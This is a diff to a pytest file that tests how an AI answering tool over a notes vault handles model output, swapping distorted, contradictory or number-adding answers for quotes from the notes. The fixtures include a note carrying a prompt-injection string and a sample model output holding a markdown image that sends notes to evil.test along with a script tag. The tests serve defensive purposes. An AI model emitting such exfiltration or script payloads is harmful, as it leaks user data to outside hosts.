@@ -24,6 +24,8 @@ FILES = {
     "\n\n- extends::[[Energy]] — heat is energy on the move",
     "Energy.md": "# Energy\nEnergy is never lost. There are 4 forms of energy in this vault.\n\n"
     "Energy has three uses:\n\n- heating houses\n- moving trains\n- lighting streets",
+    "Tasks.md": "# Tasks\n- [ ] bring the heat meter back to Ada\n"
+    "- [x] sell the heat lamp to Bert\n",
     "Evil.md": f"# Heat notes\nHeat is discussed here. {INJECTION}",
 }
 QUESTION = "Does heat flow from warm bodies?"
@@ -47,7 +49,9 @@ def snapshots(corpus, script, question=QUESTION, timeout=10.0, encode=bag_of_wor
     with serving(script) as url:
         model = LanguageModel("openai-like/scripted", url, timeout)
         writer = reading(corpus, analysed, hits, model, encode)
-        return list(stream(answer(corpus, analysed, hits), writer))
+        found = list(stream(answer(corpus, analysed, hits), writer))
+    # The same object again is no news.
+    return [one for one, before in zip(found, [None, *found], strict=False) if one is not before]
 
 
 def test_the_quotes_come_first_and_the_written_answer_replaces_them(corpus):
@@ -93,7 +97,7 @@ def test_a_model_that_fails_leaves_the_quotes_and_says_why(corpus, script, why):
     assert "secret-key" not in last.notice + last.text
 
 
-def test_what_was_carried_stays_when_the_model_breaks_off(corpus):
+def test_carried_sentences_stay_when_the_model_breaks_off(corpus):
     says = "Heat flows from warm bodies to cold ones. Joule measured heat in 1843."
     *_, last = snapshots(corpus, Script(says, dies_after=7))
     assert last.kind == "generated"
@@ -111,11 +115,8 @@ NONSENSE = {
     "injected": "PWNED ![x](http://evil.test/?q=notes) <script>alert(1)</script>",
     "endless": "Heat is heat is heat. " * 3000,
     "word": "heat " * 5000,
-    "reversed": "Heat flows from cold bodies to warm ones.",
-    "denied": "Heat does not flow from warm bodies to cold ones.",
     "declined": "The notes don't say.",
     "yes": "Yes.",
-    "no": "No, heat flows from warm bodies to cold ones.",
     "markup": "# Answer\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
     "echo": "Using only these notes, answer in one or two sentences: Does heat flow?",
     "repeats": "Does heat flow from warm bodies?",
@@ -134,6 +135,71 @@ def test_nonsense_leaves_the_quotes_and_one_line_that_says_why(corpus, says):
     assert "\n" not in last.notice
 
 
+@pytest.mark.parametrize(
+    "says",
+    [
+        "Heat flows from cold bodies to warm ones.",
+        "Heat does not flow from warm bodies to cold ones.",
+        "Heat always flows from warm bodies to cold ones.",
+    ],
+)
+def test_the_notes_own_sentence_takes_the_place_of_one_that_distorts_it(corpus, says):
+    *_, last = snapshots(corpus, Script(says))
+    assert last.kind == "generated"
+    assert last.text == "Heat flows from warm bodies to cold ones. [1]"
+    assert last.notice == (
+        "One sentence of openai-like/scripted is given in the words of the notes."
+    )
+
+
+def test_a_yes_or_no_that_does_not_follow_is_left_out(corpus):
+    *_, last = snapshots(corpus, Script("No, heat flows from warm bodies to cold ones."))
+    assert last.text == "Heat flows from warm bodies to cold ones. [1]"
+
+
+def test_half_of_an_answer_leaves_the_quotes(corpus):
+    question = "Does heat flow from warm bodies, and how many forms of energy are there?"
+    half = "Heat flows from warm bodies to cold ones."
+    first, *_, last = snapshots(corpus, Script(half), question)
+    assert last.text == first.text
+    *_, last = snapshots(corpus, Script(f"{half} There are 4 forms of energy."), question)
+    assert last.kind == "generated"
+    assert len(last.statements) == 2
+
+
+def test_a_wrong_first_sentence_ends_the_answer(corpus):
+    script = Script("The moon is made of cheese. Heat flows from warm bodies to cold ones. " * 999)
+    first, *_, last = snapshots(corpus, script)
+    assert last.text == first.text
+    assert script.broken_off.wait(10)
+
+
+def test_a_sentence_that_only_repeats_the_question_does_not_end_the_answer(corpus):
+    says = "Heat does flow from warm bodies. Heat flows from warm bodies to cold ones."
+    *_, last = snapshots(corpus, Script(says))
+    assert last.text == "Heat flows from warm bodies to cold ones. [1]"
+
+
+def test_an_open_task_carries_nothing_that_happened(corpus):
+    question = "Who has the heat meter and the heat lamp?"
+    first, *_, last = snapshots(corpus, Script("The heat meter was brought to Ada."), question)
+    assert last.text == first.text
+    assert "the task is not done" in last.notice
+    *_, last = snapshots(corpus, Script("The heat lamp was sold to Bert."), question)
+    assert last.kind == "generated"
+
+
+def test_no_number_is_replaced_by_a_sentence_without_it(corpus):
+    *_, last = snapshots(corpus, Script("Heat flows from 12 warm bodies to cold ones."))
+    assert last.kind == "extractive"
+
+
+def test_no_more_than_sixty_words_are_shown(corpus):
+    long = "Heat flows from warm bodies to cold ones" + " and from warm bodies to cold ones" * 9
+    *_, last = snapshots(corpus, Script(f"Joule measured heat in 1843. {long}."))
+    assert sum(len(one.text.split()) for one in last.statements) <= llm_answer.MOST_WORDS
+
+
 @settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
 @given(st.text(max_size=300))
 def test_nothing_but_carried_sentences_is_ever_shown(corpus, says):
@@ -148,7 +214,7 @@ def test_a_model_that_declines_is_overruled_by_the_quote(corpus):
     assert "warm bodies" in last.text
 
 
-def test_a_model_does_not_overrule_silence(corpus):
+def test_no_model_is_asked_after_an_abstention(corpus):
     script = Script("Heat flows from warm bodies to cold ones.")
     *_, last = snapshots(corpus, script, "Who won the football cup in Brazil?")
     assert last.abstained
@@ -164,10 +230,13 @@ def test_the_prompt_holds_numbered_evidence_and_one_instruction(corpus):
     script = Script("")
     snapshots(corpus, script, QUESTION)
     [message] = script.requests[0]["messages"]
-    *lines, blank, instruction = message["content"].split("\n")
+    *groups, instruction = message["content"].split("\n\n")
     assert instruction == f"{llm_answer.INSTRUCTION} {QUESTION}"
-    assert blank == ""
-    assert all(re.match(r"\[\d+\] \(.+?\) \S", line) for line in lines)
+    places = [group.split("\n")[0] for group in groups]
+    assert "Heat" in places
+    assert len(places) == len(set(places))
+    lines = [line for group in groups for line in group.split("\n")[1:]]
+    assert all(re.match(r"\[\d+\] \S", line) for line in lines)
     assert any("heating houses; moving trains; lighting streets" in line for line in lines)
     assert script.requests[0]["max_tokens"] <= 200
 
@@ -180,14 +249,29 @@ def test_evidence_keeps_to_its_tokens(corpus):
 
 
 def test_closing_the_stream_stops_the_model(corpus):
-    script = Script("Heat flows from warm bodies to cold ones. " + "word " * 200_000)
+    script = Script("Heat flows from warm bodies to cold ones. " + "Word " * 200_000)
     analysed, hits = asked(corpus)
     with serving(script) as url:
         model = LanguageModel("openai-like/scripted", url, 10.0)
         writer = reading(corpus, analysed, hits, model, None)
         answers = stream(answer(corpus, analysed, hits), writer)
         assert next(answers).kind == "extractive"
-        assert next(answers).kind == "generated"
+        assert next(one for one in answers if one.kind == "generated")
+        answers.close()
+        assert script.broken_off.wait(10)
+
+
+def test_closing_the_stream_stops_a_model_that_still_reads(corpus):
+    script = Script("word " * 200, waits=3.0)
+    analysed, hits = asked(corpus)
+    with serving(script) as url:
+        model = LanguageModel("openai-like/scripted", url, 60.0)
+        answers = stream(
+            answer(corpus, analysed, hits), reading(corpus, analysed, hits, model, None)
+        )
+        first = next(answers)
+        while not script.requests:
+            assert next(answers) is first
         answers.close()
         assert script.broken_off.wait(10)
 
